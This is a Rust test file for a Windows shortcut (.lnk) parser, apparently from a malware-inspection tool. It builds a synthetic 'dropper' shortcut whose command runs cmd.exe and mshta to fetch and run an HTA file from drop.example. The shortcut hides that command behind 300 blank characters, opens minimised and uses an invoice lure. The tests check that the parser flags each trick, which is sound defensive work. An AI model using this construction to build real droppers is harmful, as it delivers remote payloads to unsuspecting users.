use super::*;
use crate::Budget;
use proptest::prelude::*;

/// Writes shortcuts for tests.
#[derive(Default)]
pub(crate) struct Builder {
    items: Vec<Vec<u8>>,
    local: Option<&'static str>,
    strings: [Option<String>; 5],
    extra: Vec<Vec<u8>>,
    minimised: bool,
    behind: Vec<u8>,
}

impl Builder {
    fn starting(target: &str, arguments: &str) -> Self {
        let mut items = vec![[&[0x1f, 0x50][..], &[0; 16]].concat(), b"\x2fC:\\\0".to_vec()];
        for name in target.split('\\') {
            let mut item = vec![0x32, 0];
            item.extend([0; 10]);
            item.extend(name.as_bytes());
            item.push(0);
            items.push(item);
        }
        let arguments = Some(arguments.to_owned()).filter(|arguments| !arguments.is_empty());
        Self { items, strings: [None, None, None, arguments, None], ..Self::default() }
    }

    fn bytes(&self) -> Vec<u8> {
        let mut flags: u32 = 1 << 7;
        flags |= u32::from(!self.items.is_empty()) | u32::from(self.local.is_some()) << 1;
        for (i, string) in self.strings.iter().enumerate() {
            flags |= u32::from(string.is_some()) << (i + 2);
        }
        let mut out = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
        out.extend(flags.to_le_bytes());
        out.resize(0x3c, 0);
        out.extend(if self.minimised { 7_u32 } else { 1 }.to_le_bytes());
        out.resize(0x4c, 0);
        if !self.items.is_empty() {
            let mut list = Vec::new();
            for item in &self.items {
                list.extend(u16::try_from(item.len() + 2).unwrap().to_le_bytes());
                list.extend(item);
            }
            list.extend([0, 0]);
            out.extend(u16::try_from(list.len()).unwrap().to_le_bytes());
            out.extend(list);
        }
        if let Some(local) = self.local {
            let size = 28 + local.len() as u32 + 2;
            for value in [size, 28, 1, 0, 28, 0, 28 + local.len() as u32 + 1] {
                out.extend(value.to_le_bytes());
            }
            out.extend(local.as_bytes());
            out.extend([0, 0]);
        }
        for string in self.strings.iter().flatten() {
            out.extend(u16::try_from(string.encode_utf16().count()).unwrap().to_le_bytes());
            out.extend(string.encode_utf16().flat_map(u16::to_le_bytes));
        }
        for block in &self.extra {
            out.extend((block.len() as u32 + 4).to_le_bytes());
            out.extend(block);
        }
        out.extend([0; 4]);
        out.extend(&self.behind);
        out
    }
}

/// The tracker's block: the machine `desk-07`, and a file identifier of version 1.
fn tracker() -> Vec<u8> {
    let mut block = 0xa000_0003_u32.to_le_bytes().to_vec();
    block.extend(88_u32.to_le_bytes());
    block.extend(0_u32.to_le_bytes());
    block.extend(b"desk-07\0\0\0\0\0\0\0\0\0");
    block.extend([1; 16]);
    block.extend([1, 2, 3, 4, 5, 6, 7, 0x11, 0x80, 0, 0x00, 0x00, 0x5e, 0x00, 0x53, 0x01]);
    block.extend([0; 32]);
    block
}

fn environment(path: &str) -> Vec<u8> {
    let mut block = 0xa000_0001_u32.to_le_bytes().to_vec();
    block.extend(path.as_bytes());
    block.resize(264, 0);
    block.extend(path.encode_utf16().flat_map(u16::to_le_bytes));
    block.resize(784, 0);
    block
}

fn opening(bytes: &[u8], budget: &mut Budget) -> Opened {
    open(Source { bytes, charset: None }, &mut Opening { passwords: &[], budget })
}

fn opened(bytes: &[u8]) -> Opened {
    opening(bytes, &mut Budget::default())
}

fn feature(opened: &Opened, kind: FeatureKind) -> Option<&str> {
    opened.features.iter().find(|feature| feature.kind == kind).map(|feature| feature.detail.as_str())
}

fn dropper() -> Builder {
    let mut link = Builder::starting(
        "Windows\\System32\\cmd.exe",
        &format!("{}/c start mshta https://drop.example/a.hta", " ".repeat(300)),
    );
    link.strings[0] = Some("Invoice 7731".to_owned());
    link.strings[4] = Some("\\\\icons.example@SSL\\x\\pdf.ico".to_owned());
    link.extra = vec![tracker()];
    link.minimised = true;
    link.behind = b"<html><script>1</script>".to_vec();
    link
}

#[test]
fn a_dropper_tells_what_it_starts_and_how_it_hides() {
    let bytes = dropper().bytes();
    let opened = opened(&bytes);
    assert_eq!(opened.anomalies, []);
    let command = String::from_utf8(opened.members[0].bytes.clone()).unwrap();
    assert!(command.starts_with("C:\\Windows\\System32\\cmd.exe  "), "{command}");
    assert!(command.ends_with("/c start mshta https://drop.example/a.hta"), "{command}");
    assert_eq!(opened.members[1].bytes, b"Invoice 7731");
    assert_eq!(
        (opened.members[2].kind, opened.members[2].bytes.as_slice()),
        (MemberKind::File, &b"<html><script>1</script>"[..])
    );
    assert_eq!(
        feature(&opened, FeatureKind::Command),
        Some(
            "in a minimised window: C:\\Windows\\System32\\cmd.exe /c start mshta https://drop.example/a.hta"
        )
    );
    assert_eq!(
        feature(&opened, FeatureKind::HiddenCommand),
        Some("300 blank characters push the arguments out of sight")
    );
    assert_eq!(
        feature(&opened, FeatureKind::NetworkPath),
        Some("the shortcut's icon or folder is on icons.example@SSL")
    );
    assert_eq!(feature(&opened, FeatureKind::AppendedData), Some("24 bytes behind the end of the shortcut"));
    let machines: Vec<&str> = opened
        .features
        .iter()
        .filter(|feature| feature.kind == FeatureKind::AuthoringMachine)
        .map(|feature| feature.detail.as_str())
        .collect();
    assert_eq!(
        machines,
        ["made on the machine desk-07", "made on a machine with the network address 00:00:5e:00:53:01"]
    );
    for found in &opened.members {
        assert_eq!(member(&bytes, found.index).as_ref(), Some(&found.bytes));
    }
}

#[test]
fn places_hold_what_is_said() {
    let bytes = dropper().bytes();
    let opened = opened(&bytes);
    let at = |kind: FeatureKind| {
        let feature = opened.features.iter().find(|feature| feature.kind == kind).unwrap();
        &bytes[feature.at.span.range()]
    };
    assert_eq!(at(FeatureKind::AuthoringMachine), b"desk-07");
    let arguments: Vec<u8> = "a.hta".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert!(at(FeatureKind::Command).ends_with(&arguments));
    assert_eq!(at(FeatureKind::AppendedData), b"<html><script>1</script>");
}

#[test]
fn the_target_is_found_wherever_it_stands() {
    let mut link = Builder::starting("x.exe", "");
    link.extra = vec![environment("%ComSpec%")];
    assert_eq!(opened(&link.bytes()).members[0].bytes, b"%ComSpec%");
    let link = Builder { local: Some("D:\\notes.txt"), ..Builder::default() };
    assert_eq!(opened(&link.bytes()).members[0].bytes, b"D:\\notes.txt");
    let mut item = vec![0x61, 0x80, 0, 0, 0, 0];
    item.extend("https://items.example/a".encode_utf16().flat_map(u16::to_le_bytes));
    item.extend([0, 0]);
    let link = Builder { items: vec![item], ..Builder::default() };
    assert_eq!(opened(&link.bytes()).members[0].bytes, b"https://items.example/a");
}

#[test]
fn a_shortcut_to_a_document_hides_nothing() {
    let opened = opened(&Builder::starting("Users\\ana\\minutes.docx", "").bytes());
    assert_eq!(opened.members.len(), 1);
    let kinds: Vec<FeatureKind> = opened.features.iter().map(|feature| feature.kind).collect();
    assert_eq!(kinds, [FeatureKind::Command]);
}

#[test]
fn a_link_that_breaks_off_anywhere_is_read_as_far_as_it_goes() {
    let whole = dropper().bytes();
    for end in 0..whole.len() {
        let bytes = &whole[..end];
        let opened = opened(bytes);
        for found in &opened.members {
            assert_eq!(member(bytes, found.index).as_ref(), Some(&found.bytes));
        }
        assert!(opened.features.iter().all(|feature| feature.at.span.end <= end));
    }
}

#[test]
fn limits_are_told() {
    let told = opening(&dropper().bytes(), &mut Budget { bytes: 10, ..Budget::default() });
    assert_eq!(told.anomalies, [(AnomalyKind::LimitReached, "shortcut-members".to_owned())]);
}

#[test]
fn paths_of_shares_have_a_host() {
    for (path, host) in [
        ("\\\\files.example\\share\\a", Some("files.example")),
        ("\\\\198.51.100.7@80\\x", Some("198.51.100.7@80")),
        ("//files.example/x", Some("files.example")),
        ("\\\\?\\UNC\\files.example\\x", Some("files.example")),
        ("\\\\?\\C:\\x", None),
        ("\\\\.\\pipe\\x", None),
        ("C:\\x", None),
        ("// a comment", None),
    ] {
        assert_eq!(share_host(path), host, "{path}");
    }
}

proptest! {
    #[test]
    fn any_bytes_are_survived(noise: Vec<u8>, flags: u16, at in 0usize..400) {
        let mut bytes = dropper().bytes();
        bytes[0x14..0x16].copy_from_slice(&flags.to_le_bytes());
        for (i, b) in noise.iter().enumerate() {
            if let Some(place) = bytes.get_mut(0x4c + at + i) {
                *place = *b;
            }
        }
        let opened = opened(&bytes);
        for feature in &opened.features {
            prop_assert!(feature.at.span.end <= bytes.len());
        }
        for found in &opened.members {
            prop_assert_eq!(member(&bytes, found.index), Some(found.bytes.clone()));
        }
    }
}
